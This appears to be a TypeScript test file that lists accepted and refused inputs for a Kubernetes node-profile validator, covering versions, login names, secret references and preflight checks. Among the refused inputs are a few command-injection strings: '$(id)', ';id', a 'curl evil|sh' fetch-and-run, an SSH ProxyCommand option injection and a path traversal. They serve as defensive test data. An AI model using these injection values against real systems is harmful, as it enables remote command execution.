import { HOSTILE, NO_TEXT } from "./hostile";
import { NAMES, NO_NAMES } from "./names";
import { PROFILE_REPOSITORIES } from "./profile-repositories";
import { PROFILE_RUNS } from "./profile-runs";
import { PROFILE_SECRETS } from "./profile-secrets";
import { ADMITTED, each, normalised, profile, refused, type Row, secret } from "./row";

const NO_VERSIONS = [
  "",
  " ",
  "1",
  "1.",
  ".34",
  "1.34.",
  "1.34.4.1",
  "1,34",
  "latest",
  "stable",
  "stable-1.34",
  "2.0",
  "0.34",
  "10.34",
  "1.034",
  "01.34",
  "1.34.04",
  "1.1000",
  "1.34.1000",
  "1.34-rc.1",
  "1.34.4-rc.1",
  "1.34.4+k3s1",
  "1.34.x",
  "1.x",
  "1.34.*",
  ">=1.34",
  "^1.34",
  "~1.34",
  "=1.34",
  "1.34 ",
  " 1.34",
  "1.34\n",
  "1.3e1",
  "१.३४",
  "１.34",
  "1.33$(id)",
  "1.33;id",
  "1.34/../../x",
  '"; curl evil|sh; "',
  "vv1.34",
  "V1.34",
  "v",
];

const OLD_VERSIONS = ["1.0", "1.3", "1.9", "1.9.11", "1.10", "1.19.16", "1.27", "1.27.99"];

const VERSIONS: readonly Row[] = [
  ...each(
    profile,
    "kubernetesVersion",
    ["1.28", "1.28.0", "1.29", "1.33.5", "1.34", "1.34.4", "1.100", "1.999.999"],
    ADMITTED,
  ),
  ...["1.34", "1.33.5", "1.28.0"].flatMap(version =>
    each(profile, "kubernetesVersion", [`v${version}`], normalised(version)),
  ),
  ...each(
    profile,
    "kubernetesVersion",
    [...NO_VERSIONS, ...HOSTILE].filter(text => text.length <= 32),
    refused(
      'is not a Kubernetes version; write "1.34" for the newest patch, or an exact one such as',
    ),
  ),
  ...each(
    profile,
    "kubernetesVersion",
    OLD_VERSIONS,
    refused("is older than 1.28, the oldest version whose nodes a supported control plane (1.31)"),
  ),
  ...each(profile, "kubernetesVersion", [1.3, 1.34, ...NO_TEXT], refused("must be of type string")),
  ...each(profile, "kubernetesVersion", [undefined, null, "1".repeat(33)], refused()),
];

/** What is no login name, or could be taken for something else. */
export const NO_LOGIN_NAMES: readonly string[] = [
  "",
  " ",
  "1user",
  "-user",
  "Ubuntu",
  "ubuntu ",
  " ubuntu",
  "ubuntu\n",
  "user@host",
  "user.name",
  "user:x",
  "domain\\user",
  "user$",
  "u".repeat(33),
  "-oProxyCommand=touch /tmp/x #",
];

const LOGINS: readonly Row[] = [
  ...each(
    profile,
    "adminUsername",
    ["ubuntu", "azureuser", "root", "_x", "a", "a-b_c", "u".repeat(32), undefined, null],
    ADMITTED,
  ),
  ...each(
    profile,
    "adminUsername",
    [...NO_LOGIN_NAMES, ...HOSTILE],
    refused(
      "is not a login name; use at most 32 lower-case letters, digits, dashes and underscores",
    ),
  ),
  ...each(profile, "adminUsername", NO_TEXT, refused("must be of type string")),
  ...each(profile, "adminUsername", ["u".repeat(65)], refused()),
  ...each(profile, "sshCredentialsSecretRef", NAMES, ADMITTED),
  ...each(profile, "tailscaleAuthKeySecretRef", [...NAMES, undefined, null], ADMITTED),
  ...["sshCredentialsSecretRef", "tailscaleAuthKeySecretRef"].flatMap(field => [
    ...each(
      profile,
      field,
      [...NO_NAMES, ...HOSTILE],
      refused("is not the name of a Secret; use lower-case letters, digits, dots and dashes"),
    ),
    ...each(profile, field, NO_TEXT, refused("must be of type string")),
    ...each(profile, field, ["a".repeat(254)], refused()),
  ]),
  ...each(profile, "sshCredentialsSecretRef", [undefined, null], refused()),
];

const CHECKS: readonly Row[] = [
  ...each(
    profile,
    "ignorePreflightErrors",
    [
      ["Swap"],
      ["Swap", "SystemVerification", "NumCPU", "Port-10250"],
      ["FileContent--proc-sys-net-bridge-bridge-nf-call-iptables"],
      [],
      undefined,
      null,
    ],
    ADMITTED,
  ),
  ...["all", "ALL", "All", "", "*", "Swap,Mem", "-Swap", "1Swap", "Swap\n", ...HOSTILE].flatMap(
    check =>
      each(
        profile,
        "ignorePreflightErrors",
        [["Swap", check]],
        refused("does not name one check; list each by its name, such as Swap or"),
      ),
  ),
  ...["Membership", "nodeidentity", "NODEIDENTITY"].flatMap(check =>
    each(
      profile,
      "ignorePreflightErrors",
      [["Swap", check]],
      refused("cannot be ignored: it tells whose node a server is; leave it out"),
    ),
  ),
  ...each(
    profile,
    "ignorePreflightErrors",
    ["Swap", ["Swap", "Swap"], ["a".repeat(129)], [1], [null], manyChecks(33), {}],
    refused(),
  ),
  ...each(profile, "ignorePreflightErrors", [manyChecks(32)], ADMITTED),
];

const OTHERS: readonly Row[] = [
  ...each(profile, "timeouts", [{}, undefined, null], ADMITTED),
  ...each(profile, "timeouts", [{ drainSeconds: 1 }, [], 600, "10m"], refused()),
  ...each(profile, "containerRuntime", ["containerd", undefined, null], ADMITTED),
  ...each(
    profile,
    "containerRuntime",
    ["docker", "cri-o", "Containerd", "", ...HOSTILE],
    refused('"containerd"'),
  ),
  ...each(profile, "cni", ["cluster", "bridge", undefined, null], ADMITTED),
  ...each(
    profile,
    "cni",
    ["flannel", "cilium", "Bridge", "", ...HOSTILE],
    refused('"cluster", "bridge"'),
  ),
  ...["nodeLabels", "labels", "taints", "status", "kubernetesversion", "constructor"].map(
    (field): Row => ({
      name: `an unknown field ${field}`,
      manifest: profile({ [field]: { "kubernetes.azure.com/mode": "system" } }),
      ...refused(field),
      field: "spec",
    }),
  ),
];

function manyChecks(count: number): string[] {
  return Array.from({ length: count }, (_, index) => `Check-${index}`);
}

/** Every case about profiles. */
export const PROFILES: readonly Row[] = [
  ...VERSIONS,
  ...LOGINS,
  ...CHECKS,
  ...PROFILE_RUNS,
  ...OTHERS,
  ...PROFILE_REPOSITORIES,
  ...PROFILE_SECRETS,
  {
    name: "a version that is newer than the control plane",
    manifest: profile({ kubernetesVersion: "1.99" }),
    verdict: "refusedByAdmission",
    reconciled: "VersionSkew",
    field: "spec.kubernetesVersion",
  },
  {
    name: "a Secret that is another component's token",
    manifest: profile({}),
    given: [{ ...secret("ssh", {}), type: "kubernetes.io/service-account-token" }],
    verdict: "condition",
    says: "InvalidCredentials",
  },
];
